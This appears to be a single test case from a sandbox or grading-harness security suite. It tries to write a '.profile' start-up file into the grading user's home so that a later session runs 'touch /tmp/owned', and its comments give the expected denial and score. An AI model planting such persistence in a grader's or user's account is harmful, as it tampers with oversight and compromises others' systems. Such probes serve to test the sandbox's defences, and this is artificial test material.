"""Plant a start-up file in the home of the user who grades, where the next program would run it."""
# earns: 0
# says: Permission denied | No such file
# unlocked: succeeds

with open("@HOME@/.profile", "w") as file:
    file.write("touch /tmp/owned\n")
